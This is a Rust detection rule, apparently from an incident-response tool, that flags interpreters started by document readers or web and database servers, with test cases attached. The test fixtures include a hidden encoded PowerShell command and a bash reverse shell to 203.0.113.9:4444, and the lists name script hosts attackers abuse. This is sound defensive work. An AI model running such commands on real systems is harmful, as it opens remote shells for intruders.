//! Who started what: documents and servers that start interpreters.

use super::super::super::rulebook::Mode;
use super::super::super::scene::Scene;
use super::super::super::verdict::{Bearing, Confidence};
use super::super::Rule;
use super::super::draft::{Draft, cite_listed, show, who_listed};
use super::{finding, hostile_signs, stem};
use crate::evidence::Process;

pub(in super::super) const RULE: Rule = Rule {
    id: "compromise.suspicious_parent",
    title: "A document or a server started an interpreter",
    rationale: "Word processors, mail and PDF readers start no shells and script hosts, unless a document tells them to; \
                web and database servers do where somebody broke in. Add-ins and jobs of administrators do so at times.",
    technique: Some("T1059"),
    runbook: "Keep the document or the request that started it; decode the command; isolate the machine if it is not known.",
    changes: "If the command is an add-in's or an administrator's own, it falls away; if it fetches code, it shows a compromise.",
    mode: Mode::Decide,
    evaluate,
    #[cfg(test)]
    cases,
};

const READERS: [&str; 12] = [
    "winword",
    "excel",
    "powerpnt",
    "outlook",
    "msaccess",
    "mspub",
    "onenote",
    "visio",
    "eqnedt32",
    "acrord32",
    "acrobat",
    "foxitpdfreader",
];
const SERVERS: [&str; 9] =
    ["w3wp", "httpd", "apache2", "nginx", "php-cgi", "php-fpm", "tomcat9", "sqlservr", "mysqld"];
/// Nothing else is meant by these when a document starts them.
const SCRIPT_HOSTS: [&str; 6] = ["wscript", "cscript", "mshta", "regsvr32", "certutil", "bitsadmin"];
const SHELLS: [&str; 10] =
    ["powershell", "pwsh", "cmd", "rundll32", "msbuild", "installutil", "sh", "bash", "dash", "wmic"];
/// Generations that are looked at.
const MAX_DEPTH: usize = 6;

fn name(process: &Process) -> String {
    stem(process.path.as_deref().unwrap_or(&process.name))
}

/// The nearest ancestor that should not start anything of the kind, by way of shells only.
fn ancestor<'a>(scene: &Scene<'a>, process: &Process) -> Option<(usize, &'a Process, String)> {
    let (mut row, mut parent) = scene.parent_of(process)?;
    for _ in 0..MAX_DEPTH {
        let name = name(parent);
        if READERS.contains(&name.as_str()) || SERVERS.contains(&name.as_str()) {
            return Some((row, parent, name));
        }
        if !SHELLS.contains(&name.as_str()) && !SCRIPT_HOSTS.contains(&name.as_str()) {
            return None;
        }
        (row, parent) = scene.parent_of(parent)?;
    }
    None
}

fn evaluate(scene: &Scene<'_>) -> Vec<Draft> {
    let mut drafts = Vec::new();
    for (row, process) in scene.processes.iter().enumerate() {
        let child = name(process);
        let script_host = SCRIPT_HOSTS.contains(&child.as_str());
        if !script_host && !SHELLS.contains(&child.as_str()) {
            continue;
        }
        let Some((parent_row, parent, by)) = ancestor(scene, process) else { continue };
        let line = process.command_line.as_deref().unwrap_or_default();
        let signs = hostile_signs(line);
        let reader = READERS.contains(&by.as_str());
        let unix = process.path.as_deref().is_some_and(|path| path.starts_with('/'));
        let weight = match (signs.is_empty(), reader) {
            (false, _) => (Bearing::Compromise, Confidence::High),
            (true, true) if script_host => (Bearing::Compromise, Confidence::Medium),
            // Outlook and Acrobat open control panels by it.
            (true, true) if child == "rundll32" => continue,
            // Sites on Linux call programs through a shell every day.
            (true, false) if unix => continue,
            (true, _) => (Bearing::Suspicion, Confidence::Medium),
        };
        let mut details = vec![format!("its command line is {}", show(line))];
        if !signs.is_empty() {
            details.push(format!("that is {}", signs.join(" and ")));
        }
        let headline =
            format!("{} was started by {}", who_listed(row, process), who_listed(parent_row, parent));
        let citations =
            [cite_listed(row, process), cite_listed(parent_row, parent)].into_iter().flatten().collect();
        drafts.push(finding(weight, headline, details, citations));
    }
    drafts.sort_by_key(|draft| std::cmp::Reverse((draft.bearing, draft.confidence)));
    drafts
}

#[cfg(test)]
fn cases() -> Vec<super::super::super::testing::Case> {
    use super::super::super::testing::{Bench, Case};
    const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    const CMD: &str = r"C:\Windows\System32\cmd.exe";
    let word = || Bench::new().program(10, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE");
    let hidden = "powershell -w hidden -enc SQBFAFgA";
    vec![
        Case::finds(
            "Word, and encoded code",
            Bearing::Compromise,
            Confidence::High,
            word().child(11, 10, POWERSHELL, hidden),
        )
        .saying(&["WINWORD.EXE", "PID 11", "encoded code"]),
        Case::finds("by way of a shell", Bearing::Compromise, Confidence::High, {
            word().child(11, 10, CMD, "cmd /c start").child(12, 11, POWERSHELL, hidden)
        }),
        Case::finds("Word, and a script host", Bearing::Compromise, Confidence::Medium, {
            word().child(11, 10, r"C:\Windows\System32\wscript.exe", r"wscript C:\x.js")
        }),
        Case::finds(
            "Word, and a shell",
            Bearing::Suspicion,
            Confidence::Medium,
            word().child(11, 10, CMD, "cmd /c dir"),
        ),
        Case::finds("a web server's shell", Bearing::Suspicion, Confidence::Medium, {
            Bench::new().program(10, r"C:\Windows\System32\inetsrv\w3wp.exe").child(
                11,
                10,
                CMD,
                "cmd /c whoami",
            )
        }),
        Case::finds("a shell towards the network", Bearing::Compromise, Confidence::High, {
            Bench::new().program(10, "/usr/sbin/apache2").child(
                11,
                10,
                "/bin/bash",
                "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
            )
        }),
        Case::nothing("a site that calls a program", {
            Bench::new().program(10, "/usr/sbin/php-fpm").child(
                11,
                10,
                "/bin/dash",
                "sh -c convert a.png b.jpg",
            )
        }),
        Case::nothing("the user's own shell", {
            Bench::new().program(10, r"C:\Windows\explorer.exe").child(11, 10, POWERSHELL, hidden)
        }),
        Case::nothing("the parent's PID is another's by now", {
            word()
                .child(11, 10, POWERSHELL, hidden)
                .process(10, |p| p.start_time = Some(Bench::at("2026-03-02T09:00:00Z")))
        }),
        Case::nothing("when the parent started is not known", {
            word().child(11, 10, POWERSHELL, hidden).process(10, |p| p.start_time = None)
        }),
    ]
}
